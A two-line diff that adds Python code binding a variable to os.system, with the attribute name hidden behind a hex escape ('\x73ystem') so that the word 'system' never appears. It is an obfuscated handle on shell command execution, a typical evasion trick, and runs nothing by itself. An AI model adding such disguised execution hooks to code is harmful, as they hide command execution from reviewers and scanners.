@@ -1,0 +1,2 @@
+import os
+X=getattr(os,"\x73ystem")
